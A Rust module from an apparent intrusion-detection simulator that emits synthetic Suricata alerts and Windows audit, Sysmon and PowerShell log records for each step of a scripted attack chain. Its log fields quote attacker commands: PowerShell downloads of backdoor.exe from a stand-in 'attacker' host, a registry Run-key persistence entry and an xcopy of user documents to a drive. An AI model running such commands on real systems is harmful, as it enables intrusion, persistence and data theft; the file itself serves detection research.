//! Static per-step event bundles.
//!
//! Each attack step carries a fixed bundle of observable events: network
//! sensor alerts recorded on the company router, host audit records on the
//! target, and (under best-practice logging only) advanced host audit and
//! verbose shell records. The bundle sizes are the generative model behind
//! the shipped ruleset's per-rule alert counts.
//!
//! Two alert types are drop-eligible: the SQL-schema observation during the
//! web-server attack and the staging-payload observation after the malicious
//! attachment runs. Their `drop_exposure` is the number of packets the
//! network sensor must not drop for the alert to fire; all other observations
//! are treated as loss-free, matching their zero observed variance.

use crate::adversary::{AttackStepName, Phase, StepExecution};
use crate::scenario::{HostKind, LoggingProfile, ScenarioConfig};
use crate::simkernel::RngStream;

use super::drops::{apply_drop, DropCandidate};
use super::event::{Cause, LogEvent, LogSource};

pub const SIG_ISDEBUGGER: &str = "ET INFO EXE IsDebuggerPresent (Used in Malware Anti-Debugging)";
pub const SIG_EXE_DOTTED_QUAD: &str = "ET INFO Executable Download from dotted-quad Host";
pub const SIG_EXE_MINIMAL_HEADERS: &str =
    "ET INFO Executable Retrieved With Minimal HTTP Headers - Potential Second Stage Download";
pub const SIG_MZ_RESPONSE: &str = "ET INFO SUSPICIOUS Dotted Quad Host MZ Response";
pub const SIG_SMTP_EXE: &str = "ET INFO SUSPICIOUS SMTP EXE - EXE SMTP Attachment";
pub const SIG_PE_DOWNLOAD: &str = "ET POLICY PE EXE or DLL Windows file download HTTP";
pub const SIG_SQLMAP_SCAN: &str = "ET SCAN Sqlmap SQL Injection Scan";
pub const SIG_BIND_API: &str =
    "ET TROJAN Possible Metasploit Payload Common Construct Bind_API (from server)";
pub const SIG_SCHEMA_COLUMNS: &str = "ET WEB_SERVER ATTACKER SQLi - SELECT and Schema Columns";
pub const SIG_XP_CMDSHELL: &str =
    "ET WEB_SERVER Attempt To Access MSSQL xp_cmdshell Stored Procedure Via URI";
pub const SIG_MYSQL_BENCHMARK: &str =
    "ET WEB_SERVER MYSQL Benchmark Command in URI to Consume Server Resources";
pub const SIG_SELECT_CONCAT: &str = "ET WEB_SERVER MYSQL SELECT CONCAT SQL Injection Attempt";
pub const SIG_ENUM_VERSION: &str = "ET WEB_SERVER Possible attempt to enumerate MS SQL Server version";
pub const SIG_SELECT_VERSION: &str =
    "ET WEB_SERVER Possible Attempt to Get SQL Server Version in URI using SELECT VERSION";
pub const SIG_INFO_SCHEMA: &str = "ET WEB_SERVER Possible MySQL SQLi Attempt Information Schema Access";
pub const SIG_SELECT_FROM: &str = "ET WEB_SERVER Possible SQL Injection Attempt SELECT FROM";
pub const SIG_UNION_SELECT: &str = "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT";
pub const SIG_XSS_SCRIPT_TAG: &str =
    "ET WEB_SERVER Script tag in URI Possible Cross Site Scripting Attempt";
pub const SIG_SQL_ERRORS: &str =
    "ET WEB_SERVER SQL Errors in HTTP 200 Response (error in your SQL syntax)";
pub const SIG_SLEEP_DELAY: &str = "ET WEB_SERVER SQL Injection Select Sleep Time Delay";

/// Packet exposure of the drop-eligible observations (see module docs).
pub const SCHEMA_COLUMNS_EXPOSURE: u32 = 30;
pub const BIND_API_EXPOSURE: u32 = 54;

/// Nominal (loss-free) opportunity counts of the two drop-eligible alerts in
/// the exemplary kill chain.
pub const SCHEMA_COLUMNS_OPPORTUNITIES: usize = 7;
pub const BIND_API_OPPORTUNITIES: usize = 2;

const SYSMON: &str = "Microsoft-Windows-Sysmon";
const SEC_AUDIT: &str = "Microsoft-Windows-Security-Auditing";
const POWERSHELL: &str = "PowerShell";
const SURICATA: &str = "suricata";
const PACKETBEAT: &str = "packetbeat";

/// Where a bundle event is recorded.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum On {
    /// The step's target host.
    Target,
    /// The company router (network sensor and flow logger).
    Router,
    /// The mail server in the DMZ.
    MailServer,
}

#[derive(Debug, Clone)]
struct BundleEvent {
    on: On,
    source: LogSource,
    provider: &'static str,
    event_id: u32,
    fields: Vec<(&'static str, String)>,
    best_practice_only: bool,
    drop_exposure: u32,
}

impl BundleEvent {
    fn new(on: On, source: LogSource, provider: &'static str, event_id: u32) -> Self {
        Self {
            on,
            source,
            provider,
            event_id,
            fields: Vec::new(),
            best_practice_only: false,
            drop_exposure: 0,
        }
    }

    fn field(mut self, key: &'static str, value: impl Into<String>) -> Self {
        self.fields.push((key, value.into()));
        self
    }

    fn best_practice(mut self) -> Self {
        self.best_practice_only = true;
        self
    }

    fn exposure(mut self, packets: u32) -> Self {
        self.drop_exposure = packets;
        self
    }
}

fn ids_alert(signature: &str) -> u32 {
    // stable per-signature identifier
    match signature {
        SIG_ISDEBUGGER => 2100001,
        SIG_EXE_DOTTED_QUAD => 2100002,
        SIG_EXE_MINIMAL_HEADERS => 2100003,
        SIG_MZ_RESPONSE => 2100004,
        SIG_SMTP_EXE => 2100005,
        SIG_PE_DOWNLOAD => 2100006,
        SIG_SQLMAP_SCAN => 2100007,
        SIG_BIND_API => 2100008,
        SIG_SCHEMA_COLUMNS => 2100009,
        SIG_XP_CMDSHELL => 2100010,
        SIG_MYSQL_BENCHMARK => 2100011,
        SIG_SELECT_CONCAT => 2100012,
        SIG_ENUM_VERSION => 2100013,
        SIG_SELECT_VERSION => 2100014,
        SIG_INFO_SCHEMA => 2100015,
        SIG_SELECT_FROM => 2100016,
        SIG_UNION_SELECT => 2100017,
        SIG_XSS_SCRIPT_TAG => 2100018,
        SIG_SQL_ERRORS => 2100019,
        SIG_SLEEP_DELAY => 2100020,
        other => panic!("unknown signature {other:?}"),
    }
}

fn alert(signature: &str, src: &str, dst: &str) -> BundleEvent {
    BundleEvent::new(On::Router, LogSource::NetworkIds, SURICATA, ids_alert(signature))
        .field("signature", signature)
        .field("src_host", src)
        .field("dst_host", dst)
}

fn alerts(n: usize, signature: &str, src: &str, dst: &str) -> Vec<BundleEvent> {
    (0..n).map(|_| alert(signature, src, dst)).collect()
}

fn flow(src: &str, dst: &str, bytes: u64) -> BundleEvent {
    BundleEvent::new(On::Router, LogSource::NetworkFlow, PACKETBEAT, 0)
        .field("src_host", src)
        .field("dst_host", dst)
        .field("bytes", bytes.to_string())
}

/// The event bundle of one chain entry. `target` is the entry's target host,
/// `lateral` another workstation referenced by exfiltration.
fn step_bundle(step: AttackStepName, phase: Phase, target: &str, lateral: &str) -> Vec<BundleEvent> {
    use AttackStepName::*;
    let attacker = "attacker";
    match (step, phase) {
        (MiscSqlmap, _) => {
            let mut out = Vec::with_capacity(128);
            out.extend(alerts(2, SIG_SQLMAP_SCAN, attacker, target));
            out.extend(
                alerts(SCHEMA_COLUMNS_OPPORTUNITIES, SIG_SCHEMA_COLUMNS, attacker, target)
                    .into_iter()
                    .map(|e| e.exposure(SCHEMA_COLUMNS_EXPOSURE)),
            );
            out.extend(alerts(1, SIG_XP_CMDSHELL, attacker, target));
            out.extend(alerts(2, SIG_MYSQL_BENCHMARK, attacker, target));
            out.extend(alerts(22, SIG_SELECT_CONCAT, attacker, target));
            out.extend(alerts(2, SIG_ENUM_VERSION, attacker, target));
            out.extend(alerts(6, SIG_SELECT_VERSION, attacker, target));
            out.extend(alerts(4, SIG_INFO_SCHEMA, attacker, target));
            out.extend(alerts(16, SIG_SELECT_FROM, attacker, target));
            out.extend(alerts(19, SIG_UNION_SELECT, attacker, target));
            out.extend(alerts(1, SIG_XSS_SCRIPT_TAG, attacker, target));
            out.extend(alerts(36, SIG_SQL_ERRORS, attacker, target));
            out.extend(alerts(7, SIG_SLEEP_DELAY, attacker, target));
            // the exploited web app logs the injection fallout
            out.push(
                BundleEvent::new(On::Target, LogSource::Syslog, "dvwa", 0)
                    .field("message", "SQL syntax errors served to remote client"),
            );
            out
        }
        (InfectEmailExe, Phase::Send) => vec![
            alert(SIG_SMTP_EXE, attacker, "dmzserver"),
            alert(SIG_SMTP_EXE, "dmzserver", target),
            BundleEvent::new(On::MailServer, LogSource::Syslog, "postfix", 0)
                .field("message", "mail accepted with executable attachment")
                .field("recipient", target),
        ],
        (InfectEmailExe, Phase::Open) | (InfectEmailExe, Phase::Full) => {
            let mut out = vec![
                alert(SIG_ISDEBUGGER, attacker, target),
                alert(SIG_EXE_MINIMAL_HEADERS, attacker, target),
                alert(SIG_MZ_RESPONSE, attacker, target),
                alert(SIG_PE_DOWNLOAD, attacker, target),
            ];
            out.extend(
                alerts(BIND_API_OPPORTUNITIES, SIG_BIND_API, attacker, target)
                    .into_iter()
                    .map(|e| e.exposure(BIND_API_EXPOSURE)),
            );
            out.push(
                BundleEvent::new(On::Target, LogSource::HostAudit, SEC_AUDIT, 4688)
                    .field("process", "C:\\Users\\user\\Downloads\\invoice.exe"),
            );
            out.push(
                BundleEvent::new(On::Target, LogSource::AdvancedHostAudit, SYSMON, 1)
                    .field("image", "C:\\Users\\user\\Downloads\\invoice.exe")
                    .field("parent_image", "C:\\Windows\\explorer.exe")
                    .field("command_line", "invoice.exe")
                    .best_practice(),
            );
            // when sent and opened in one go, prepend the send observations
            if phase == Phase::Full {
                let mut send = step_bundle(InfectEmailExe, Phase::Send, target, lateral);
                send.append(&mut out);
                out = send;
            }
            out
        }
        (InfectFlashdriveExe, _) => vec![
            BundleEvent::new(On::Target, LogSource::HostAudit, SEC_AUDIT, 4688)
                .field("process", "E:\\invoice.exe"),
            BundleEvent::new(On::Target, LogSource::AdvancedHostAudit, SYSMON, 1)
                .field("image", "E:\\invoice.exe")
                .field("parent_image", "C:\\Windows\\explorer.exe")
                .field("command_line", "invoice.exe")
                .best_practice(),
        ],
        (C2TakeScreenshot, _) => vec![
            flow(target, attacker, 48_213),
            flow(target, attacker, 912_774),
        ],
        (C2Mimikatz, _) => vec![
            BundleEvent::new(On::Target, LogSource::HostAudit, SEC_AUDIT, 4672)
                .field("privileges", "SeDebugPrivilege"),
            BundleEvent::new(On::Target, LogSource::AdvancedHostAudit, SYSMON, 1)
                .field("image", "C:\\Windows\\System32\\cmd.exe")
                .field("parent_image", "C:\\Windows\\System32\\services.exe")
                .field("command_line", "cmd.exe /c echo upjmkr > \\\\.\\pipe\\upjmkr")
                .best_practice(),
            flow(target, attacker, 2_048),
        ],
        (C2Exfiltration, _) => vec![
            BundleEvent::new(On::Target, LogSource::HostAudit, SEC_AUDIT, 4624)
                .field("logon_type", "3")
                .field("remote_host", lateral.to_owned()),
            flow(target, attacker, 1_482_113),
            flow(target, attacker, 3_771_905),
            flow(target, attacker, 2_236_480),
        ],
        (C2DownloadMalware, _) => vec![
            alert(SIG_EXE_DOTTED_QUAD, attacker, target),
            alert(SIG_MZ_RESPONSE, attacker, target),
            alert(SIG_PE_DOWNLOAD, attacker, target),
            BundleEvent::new(On::Target, LogSource::ShellLog, POWERSHELL, 400)
                .field("host_application", "powershell -nop -w hidden")
                .field("interactive", "false")
                .best_practice(),
            BundleEvent::new(On::Target, LogSource::ShellLog, POWERSHELL, 4104)
                .field("script_block", "Invoke-WebRequest -Uri http://attacker/backdoor.exe")
                .best_practice(),
            BundleEvent::new(On::Target, LogSource::ShellLog, POWERSHELL, 4104)
                .field("script_block", "Invoke-WebRequest -Uri http://attacker/backdoor.exe -OutFile C:\\Users\\Public\\backdoor.exe")
                .best_practice(),
            BundleEvent::new(On::Target, LogSource::ShellLog, POWERSHELL, 4104)
                .field("script_block", "Invoke-WebRequest -Uri http://attacker/check.txt")
                .best_practice(),
        ],
        (MiscDownloadMalware, _) => vec![
            alert(SIG_EXE_DOTTED_QUAD, attacker, target),
            alert(SIG_MZ_RESPONSE, attacker, target),
            alert(SIG_PE_DOWNLOAD, attacker, target),
            BundleEvent::new(On::Target, LogSource::ShellLog, POWERSHELL, 4104)
                .field("script_block", "Invoke-WebRequest -Uri http://attacker/tool.exe")
                .best_practice(),
        ],
        (MiscExecuteMalware, _) => vec![
            BundleEvent::new(On::Target, LogSource::HostAudit, SEC_AUDIT, 4688)
                .field("process", "C:\\Users\\Public\\backdoor.exe"),
            BundleEvent::new(On::Target, LogSource::AdvancedHostAudit, SYSMON, 1)
                .field("image", "C:\\Users\\Public\\backdoor.exe")
                .field("parent_image", "C:\\Windows\\System32\\cmd.exe")
                .field("command_line", "C:\\Users\\Public\\backdoor.exe")
                .best_practice(),
        ],
        (MiscExfiltration, _) => vec![
            BundleEvent::new(On::Target, LogSource::HostAudit, SEC_AUDIT, 4663)
                .field("object", "C:\\Users\\user\\Documents\\plans.docx"),
            BundleEvent::new(On::Target, LogSource::HostAudit, SEC_AUDIT, 4663)
                .field("object", "C:\\Users\\user\\Documents\\budget.xlsx"),
            BundleEvent::new(On::Target, LogSource::AdvancedHostAudit, SYSMON, 1)
                .field("image", "C:\\Windows\\System32\\xcopy.exe")
                .field("parent_image", "C:\\Windows\\System32\\cmd.exe")
                .field("command_line", "xcopy C:\\Users\\user\\Documents E:\\ /s")
                .best_practice(),
        ],
        (MiscSetAutostart, _) => vec![
            BundleEvent::new(On::Target, LogSource::HostAudit, SEC_AUDIT, 4688)
                .field("process", "C:\\Windows\\System32\\reg.exe"),
            BundleEvent::new(On::Target, LogSource::AdvancedHostAudit, SYSMON, 13)
                .field(
                    "target_object",
                    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
                )
                .field("details", "C:\\Users\\Public\\backdoor.exe")
                .best_practice(),
            BundleEvent::new(On::Target, LogSource::AdvancedHostAudit, SYSMON, 1)
                .field("image", "C:\\Windows\\System32\\reg.exe")
                .field("parent_image", "C:\\Windows\\System32\\cmd.exe")
                .field(
                    "command_line",
                    "reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run /v updater /t REG_SZ /d C:\\Users\\Public\\backdoor.exe",
                )
                .best_practice(),
        ],
        (C2ChangeWallpaper, _) => vec![
            BundleEvent::new(On::Target, LogSource::AdvancedHostAudit, SYSMON, 13)
                .field("target_object", "HKCU\\Control Panel\\Desktop\\Wallpaper")
                .field("details", "C:\\Users\\Public\\pwned.jpg")
                .best_practice(),
            flow("attacker", target, 184_320),
        ],
    }
}

/// Renders the event bundle of an executed chain entry: resolves hosts from
/// the scenario, filters best-practice-only records under the default logging
/// profile, applies the drop model to drop-eligible network observations, and
/// tags every surviving event with the entry's ground-truth cause.
///
/// Attacker behavior does not depend on the logging profile: best-practice
/// logging adds host records but never changes what the step does or what the
/// network sensor has the opportunity to see.
pub fn emit_attack_events(
    exec: &StepExecution,
    scenario: &ScenarioConfig,
    at: u64,
    stream: &RngStream,
) -> Vec<LogEvent> {
    let router = scenario
        .host_of_kind(HostKind::CompanyRouter)
        .unwrap_or("companyrouter")
        .to_owned();
    let mail = scenario
        .host_of_kind(HostKind::DmzServer)
        .unwrap_or("dmzserver")
        .to_owned();
    let lateral = scenario
        .client_ids()
        .iter()
        .find(|c| **c != exec.target)
        .unwrap_or(&exec.target.as_str())
        .to_string();

    let cause = Cause {
        entry: exec.entry_index,
        step: exec.step,
    };
    let best_practice = scenario.logging.profile == LoggingProfile::BestPractice;

    let mut candidates = Vec::new();
    for (i, spec) in step_bundle(exec.step, exec.phase, &exec.target, &lateral)
        .into_iter()
        .enumerate()
    {
        if spec.best_practice_only && !best_practice {
            continue;
        }
        let host = match spec.on {
            On::Target => exec.target.clone(),
            On::Router => router.clone(),
            On::MailServer => mail.clone(),
        };
        let mut event = LogEvent::new(at + i as u64, host, spec.source, spec.provider, spec.event_id)
            .with_cause(cause);
        for (k, v) in spec.fields {
            event = event.with_field(k, v);
        }
        candidates.push((event, spec.drop_exposure));
    }

    // Drop-eligible observations survive only if none of their packets are
    // lost; grouped by exposure so each group sees one effective rate.
    let drop_rate = scenario.host_profile.drop_rate;
    let mut exposures: Vec<u32> = candidates
        .iter()
        .map(|(_, exp)| *exp)
        .filter(|e| *e > 0)
        .collect();
    exposures.sort_unstable();
    exposures.dedup();

    let mut out: Vec<LogEvent> = Vec::with_capacity(candidates.len());
    if drop_rate <= 0.0 || exposures.is_empty() {
        out.extend(candidates.into_iter().map(|(e, _)| e));
    } else {
        for exposure in exposures {
            let per_event_rate = 1.0 - (1.0 - drop_rate).powi(exposure as i32);
            let group: Vec<DropCandidate> = candidates
                .iter()
                .filter(|(_, exp)| *exp == exposure)
                .map(|(e, _)| DropCandidate::eligible(e.clone()))
                .collect();
            out.extend(apply_drop(
                group,
                per_event_rate,
                &mut stream.child(&["drop", &exec.entry_index.to_string(), &exposure.to_string()]),
            ));
        }
        out.extend(
            candidates
                .into_iter()
                .filter(|(_, exp)| *exp == 0)
                .map(|(e, _)| e),
        );
        // bundle timestamps are unique, so this restores emission order
        out.sort_by_key(|e| e.timestamp);
    }
    out
}

/// Rule-relevant signature counts of one bundle at drop rate zero, for tests
/// and for locating which chain entries can trigger a given alert name.
pub fn loss_free_bundle(
    step: AttackStepName,
    phase: Phase,
    target: &str,
    lateral: &str,
) -> Vec<LogEvent> {
    step_bundle(step, phase, target, lateral)
        .into_iter()
        .enumerate()
        .map(|(i, spec)| {
            let host = match spec.on {
                On::Target => target.to_owned(),
                On::Router => "companyrouter".to_owned(),
                On::MailServer => "dmzserver".to_owned(),
            };
            let mut event =
                LogEvent::new(i as u64, host, spec.source, spec.provider, spec.event_id);
            for (k, v) in spec.fields {
                event = event.with_field(k, v);
            }
            event
        })
        .collect()
}
